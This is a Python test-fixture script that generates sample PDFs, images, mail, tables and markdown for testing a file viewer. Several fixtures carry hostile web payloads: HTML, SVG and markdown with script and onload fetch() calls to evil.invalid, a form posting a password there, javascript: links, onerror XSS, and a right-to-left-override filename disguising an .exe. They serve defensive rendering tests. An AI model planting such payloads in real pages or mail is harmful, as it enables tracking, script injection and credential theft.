"""Files that the tests of looking need, made anew: documents, mail, tables."""
import base64
import email.message
import email.policy
import email.utils
import io
import pathlib
import struct
import subprocess
import zlib

HERE = pathlib.Path(__file__).resolve().parent


def png(width=16, height=16, colour=(200, 60, 40)):
    rows = (b"\0" + bytes(colour) * width) * height

    def chunk(kind, body):
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


def pdf(pages, headings=()):
    """A document with a list of lines for each page, and headings that lead to pages, (title, page from 0)."""
    objects = ["<< /Type /Catalog /Pages 2 0 R /Outlines 4 0 R >>", "", "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>", ""]
    kids = []
    for lines in pages:
        text = "BT /F 18 Tf 72 720 Td 24 TL " + " ".join(f"({line}) Tj T*" for line in lines) + " ET"
        objects.append(f"<< /Length {len(text)} >>\nstream\n{text}\nendstream")
        objects.append(f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents {len(objects)} 0 R /Resources << /Font << /F 3 0 R >> >> >>")
        kids.append(len(objects))
    objects[1] = f"<< /Type /Pages /Count {len(kids)} /Kids [{' '.join(f'{kid} 0 R' for kid in kids)}] >>"
    first = len(objects) + 1
    for number, (title, page) in enumerate(headings):
        ways = (f"/Prev {first + number - 1} 0 R " if number else "") + (f"/Next {first + number + 1} 0 R " if number < len(headings) - 1 else "")
        objects.append(f"<< /Title ({title}) /Parent 4 0 R {ways}/Dest [{kids[page]} 0 R /Fit] >>")
    objects[3] = f"<< /Type /Outlines /Count {len(headings)} " + (f"/First {first} 0 R /Last {len(objects)} 0 R " if headings else "") + ">>"
    out, places = io.BytesIO(b""), []
    out.write(b"%PDF-1.5\n")
    for number, text in enumerate(objects, 1):
        places.append(out.tell())
        out.write(f"{number} 0 obj\n{text}\nendobj\n".encode())
    start = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode() + b"".join(b"%010d 00000 n \n" % place for place in places))
    out.write(f"trailer << /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n".encode())
    return out.getvalue()


PASSWORD = "Open-Sesame-4711"


def locked(path, name):
    subprocess.run(["qpdf", "--encrypt", PASSWORD, "owner", "256", "--", path, path.with_name(name)], check=True)


HOSTILE = """<html><head><meta http-equiv="refresh" content="0; url=http://evil.invalid/refresh"><base href="http://evil.invalid/">
<link rel="stylesheet" href="http://evil.invalid/style.css"><style>@import "http://evil.invalid/import.css"; body { background: url(http://evil.invalid/b.png) }</style>
<script>document.title = "taken"; fetch("http://evil.invalid/script")</script></head>
<body onload="fetch('http://evil.invalid/onload')"><h1>Dear reader</h1>
<img src="cid:logo" alt="our logo"><img src="http://evil.invalid/one.png"><img src="https://evil.invalid/two.png" onerror="fetch('/jobs')">
<img srcset="http://evil.invalid/three.png 2x"><svg onload="alert(1)"><script>alert(2)</script></svg>
<form action="http://evil.invalid/form"><input name="password"><button>Send</button></form>
<a href="javascript:alert(3)">run</a> <a href="https://example.org/page">a page</a>
<iframe src="http://evil.invalid/frame"></iframe><object data="http://evil.invalid/o"></object><video poster="http://evil.invalid/p.png"></video>
<p style="position:fixed;inset:0;background:url('http://evil.invalid/s.png')">text</p></body></html>"""


def message(number, sender="Anna Muster <anna@example.org>", subject=None, body="", html=None, files=(), day=1):
    mail = email.message.EmailMessage(policy=email.policy.SMTP)
    mail["From"], mail["To"] = sender, "Bea Beispiel <bea@example.org>"
    mail["Subject"] = subject or f"Letter {number}"
    mail["Date"] = email.utils.format_datetime(email.utils.datetime.datetime(2026, 1, day, 10, 0, tzinfo=email.utils.datetime.timezone.utc))
    mail["Message-ID"] = f"<{number}@example.org>"
    mail.set_content(body or f"Words of letter {number}.")
    if html:
        mail.add_alternative(html, subtype="html")
        mail.get_payload()[1].add_related(png(40, 20), "image", "png", cid="<logo>")
    for name, kind, content in files:
        mail.add_attachment(content, *kind.split("/"), filename=name)
    return mail


def mailbox(messages):
    return b"".join(b"From x@example.org Thu Jan  1 00:00:00 2026\n" + mail.as_bytes().replace(b"\r\n", b"\n") + b"\n" for mail in messages)


def fill(folder):
    """Puts one of each kind into a folder."""
    pages = [["First page of the report", "about lakes and towns"], ["Second page", "more about towns"]]
    pages += [[f"Page {number}", "nothing here"] for number in range(3, 40)] + [["The last page", "names the lakes again"]]
    (folder / "report.pdf").write_bytes(pdf(pages, [("Lakes", 0), ("Towns", 1), ("The end", 39)]))
    (folder / "own.pdf").write_bytes(pdf([["A secret"]]))
    for name in ("own.locked.pdf", "other.locked.pdf"):
        locked(folder / "own.pdf", name)
    (folder / "own.pdf").unlink()
    attached = [("note <1>.txt", "text/plain", b"attached words\n<b>not bold</b>\n"), ("red.png", "image/png", png()),
                ("leaf.pdf", "application/pdf", pdf([["A leaf of paper"]]))]
    mails = [message(number, day=number % 28 + 1) for number in range(1, 121)]
    mails[6] = message(7, "Carl Carlson <carl@example.net>", "Pictures and a form", html=HOSTILE, files=attached, day=20)
    mails[9] = message(10, "Carl Carlson <carl@example.net>", "Only words", day=21)
    (folder / "post.mbox").write_bytes(mailbox(mails))
    (folder / "one.eml").write_bytes(message(1, subject="Alone", html="<p>All of <b>it</b></p>").as_bytes())
    (folder / "large.csv").write_text("number,town,people\n" + "".join(f"{number},town {number % 97},{number * 7 % 1003}\n" for number in range(1, 60_001)))
    (folder / "deep.json").write_text('{"name":"Bern","lakes":[{"name":"Thun","depth":217},{"name":"Brienz","depth":260}],"empty":[],"n":null,"list":['
                                      + ",".join(str(number) for number in range(450)) + "]}")
    (folder / "notes.md").write_text(MARKDOWN)
    (folder / "long.txt").write_text("".join(f"line {number}\n" for number in range(1, 5001)) + "x" * 9000 + "\nthe needle is here\n")
    (folder / "page.txt").write_text("Words\n\n    indented\n" + "a long line " * 40 + "\n")
    (folder / "junk.bin").write_bytes(b"\0\1\2\3junk" * 9)
    for name in ("a", "b", "c"):
        (folder / f"side-{name}.png").write_bytes(png(30, 20, (40, 90 if name == "b" else 160, 200)))
    (folder / "drawing.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg" width="40" height="30" onload="fetch(\'/jobs\')"><script>fetch("http://evil.invalid/svg")'
                                        '</script><image href="http://evil.invalid/svg.png"/><rect width="40" height="30" fill="teal"/></svg>')
    (folder / "page.html").write_text("<html><head><title>t</title></head><body onload=\"fetch('http://evil.invalid/h')\"><script>fetch('http://evil.invalid/x')"
                                      "</script><table><tr><th>a</th></tr><tr><td>&lt;img src=x onerror=alert(1)&gt;</td></tr></table></body></html>")
    (folder / "tra\u202egnp.\x07exe.png").write_bytes(png())


MARKDOWN = """# Lakes & <script>alert(1)</script>

Some *words*, **strong** ones, `code <b>`, ~~gone~~ and a [link](https://example.org/?a=1&b="2").
[Bad](javascript:alert(1)) and [also bad]( JavaScript:alert(1) ) and <img src=x onerror=alert(1)>.

![a picture](https://evil.invalid/p.png)

- one
- two
  1. inner
  2. inner again
- [x] done

> quoted
> words

| lake | depth |
|------|-------|
| Thun | 217 \\| m |

```swift
let a = "<&>"
```

Second level
------------
"""
